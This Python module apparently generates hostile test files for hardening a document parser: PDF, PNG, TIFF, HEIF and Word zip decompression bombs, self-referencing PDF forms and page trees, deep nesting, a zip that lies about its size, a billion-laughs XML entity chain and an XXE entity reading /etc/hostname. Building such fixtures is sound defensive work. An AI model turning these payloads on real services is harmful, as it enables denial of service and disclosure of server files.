"""Files that try to hurt whoever opens them, made from nothing. Each function gives the bytes of one."""

import io
import struct
import zipfile
import zlib

import pikepdf
import pillow_heif
from PIL import Image
from reportlab.pdfgen.canvas import Canvas

PAGE = (595, 842)


def pdf_of(*objects: bytes, root: int = 1) -> bytes:
    """A PDF of numbered objects (from 1), with a correct table."""
    body, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, start=1):
        places.append(len(body))
        body += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    start = len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    body += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(body + b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, start))


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def page_showing(content: bytes, resources: bytes = b"<< >>", *more: bytes, box: bytes = b"[0 0 595 842]") -> bytes:
    """A PDF of one page whose content stream is object 4; `more` are objects from 5 on."""
    return pdf_of(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox " + box + b" /Contents 4 0 R /Resources " + resources + b" >>",
        content,
        *more,
    )


def flate_bomb() -> bytes:
    """Two thousand bytes that unpack twice to a gigabyte."""
    squeezer = zlib.compressobj(9)
    once = b"".join(squeezer.compress(b" " * (1 << 20)) for _ in range(1024)) + squeezer.flush()
    return page_showing(stream(zlib.compress(once, 9), b"/Filter [/FlateDecode /FlateDecode]"))


def form_loop() -> bytes:
    """A form that draws itself."""
    form = stream(b"/F Do", b"/Type /XObject /Subtype /Form /BBox [0 0 100 100] /Resources << /XObject << /F 5 0 R >> >>")
    return page_showing(stream(b"/F Do"), b"<< /XObject << /F 5 0 R >> >>", form)


def doubling_forms(depth: int = 40) -> bytes:
    """Forms that each draw the next one twice: two to the power of `depth` drawings."""
    forms = [
        stream(b"/F Do /F Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F %d 0 R >> >>" % (number + 1))
        for number in range(5, 5 + depth)
    ]
    last = stream(b"0 0 9 9 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9]")
    return page_showing(stream(b"/F Do"), b"<< /XObject << /F 5 0 R >> >>", *forms, last)


def million_glyphs() -> bytes:
    font = b"<< /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"
    content = b"BT /F 1 Tf 10 10 Td " + b"(aaaaaaaaaaaaaaaaaaaa) Tj " * 50_000 + b"ET"
    return page_showing(stream(zlib.compress(content, 9), b"/Filter /FlateDecode"), font)


def endless_page() -> bytes:
    """A page of a million points each way."""
    return page_showing(stream(b"0 0 500000 500000 re f"), box=b"[0 0 1000000 1000000]")


def no_pages() -> bytes:
    return pdf_of(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>")


def page_tree_loop() -> bytes:
    return pdf_of(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>")


def deep_arrays() -> bytes:
    return pdf_of(b"<< /Type /Catalog /Pages 2 0 R >>", b"[" * 200_000)


def pixel_bomb(side: int = 30_000) -> bytes:
    """A PNG that is small on disk and 900 million pixels in memory."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    size = side.to_bytes(4, "big")
    row = b"\0" * (side // 8 + 2)
    squeezer = zlib.compressobj(9)
    rows = b"".join(squeezer.compress(row) for _ in range(side)) + squeezer.flush()
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", size + size + b"\1\0\0\0\0") + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def typed_pdf(*pages: str) -> bytes:
    """A harmless PDF with a text layer; the pages' lines from the top."""
    paper = io.BytesIO()
    canvas = Canvas(paper, pagesize=PAGE, invariant=True)
    for text in pages:
        canvas.setFont("Helvetica", 11)
        for line, words in enumerate(text.splitlines()):
            canvas.drawString(60, 780 - 18 * line, words)
        canvas.showPage()
    canvas.save()
    return paper.getvalue()


def locked(data: bytes, *, user: str, owner: str = "owner") -> bytes:
    """The PDF encrypted; an empty `user` password only forbids printing and the like."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(data)) as pdf:
        pdf.save(out, encryption=pikepdf.Encryption(user=user, owner=owner))
    return out.getvalue()


def with_bomb_between(good: bytes) -> bytes:
    """Three pages: a harmless one, a bomb, the harmless one again."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(good)) as pdf, pikepdf.open(io.BytesIO(flate_bomb())) as bomb:
        last = pikepdf.open(io.BytesIO(good))
        pdf.pages.append(bomb.pages[0])
        pdf.pages.append(last.pages[0])
        pdf.save(out, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)
        last.close()
    return out.getvalue()


def word_bomb() -> bytes:
    """A Word file of less than a megabyte whose text unpacks to half a gigabyte."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package, package.open("word/document.xml", "w", force_zip64=True) as part:
        for _ in range(512):
            part.write(b" " * (1 << 20))
    return out.getvalue()


def word_of_many_parts(parts: int = 20_000) -> bytes:
    return _zip({**{f"word/media/{number}": b"" for number in range(parts)}, "word/document.xml": b"<d/>"})


def word_that_lies_about_its_size() -> bytes:
    """The list of parts says ten bytes; ten million come out."""
    data, size = _zip({"word/document.xml": b"<d>" + b" " * 10_000_000}), (10_000_003).to_bytes(4, "little")
    return data.replace(size, (10).to_bytes(4, "little"))


def word_with_entities() -> bytes:
    """Ten entities, each ten times the one before."""
    steps = "".join(f'<!ENTITY e{step} "{f"&e{step - 1};" * 10}">' for step in range(1, 10))
    return _zip({"word/document.xml": f'<!DOCTYPE d [<!ENTITY e0 "SAMPLE">{steps}]><d>&e9;</d>'.encode()})


def word_that_asks_for_a_file() -> bytes:
    """A document type that would put a system file into the text."""
    return _zip({"word/document.xml": b'<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/hostname">]><d>&e;</d>'})


def word_of_deep_tables(depth: int = 5_000) -> bytes:
    opened = b"<w:tbl><w:tr><w:tc>" * depth + b"<w:p/>" + b"</w:tc></w:tr></w:tbl>" * depth
    return _zip({"word/document.xml": b'<w:document xmlns:w="w"><w:body>' + opened + b"</w:body></w:document>"})


def _zip(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return out.getvalue()


def tiff_bomb(side: int = 60_000) -> bytes:
    """A TIFF of a hundred bytes that claims 3.6 thousand million pixels."""
    return _tiff([(256, side), (257, side), (258, 8), (259, 1), (262, 1), (273, 8), (277, 1), (278, side), (279, 100)], after=0)


def tiff_loop() -> bytes:
    """A TIFF whose first page is followed by its first page."""
    return _tiff([(256, 8), (257, 8), (258, 8), (259, 1), (262, 1), (273, 8), (277, 1), (278, 8), (279, 64)], after=8)


def _tiff(tags: list[tuple[int, int]], after: int) -> bytes:
    entries = b"".join(struct.pack("<HHII", tag, 4, 1, number) for tag, number in tags)
    return struct.pack("<2sHIH", b"II", 42, 8, len(tags)) + entries + struct.pack("<I", after) + bytes(64)


def heif_bomb(side: int = 60_000) -> bytes:
    """A HEIC that is changed to claim that its picture is `side` pixels each way."""
    out = io.BytesIO()
    pillow_heif.from_pillow(Image.new("L", (64, 64), 255)).save(out, quality=50)
    return out.getvalue().replace(b"ispe\0\0\0\0" + struct.pack(">II", 64, 64), b"ispe\0\0\0\0" + struct.pack(">II", side, side))
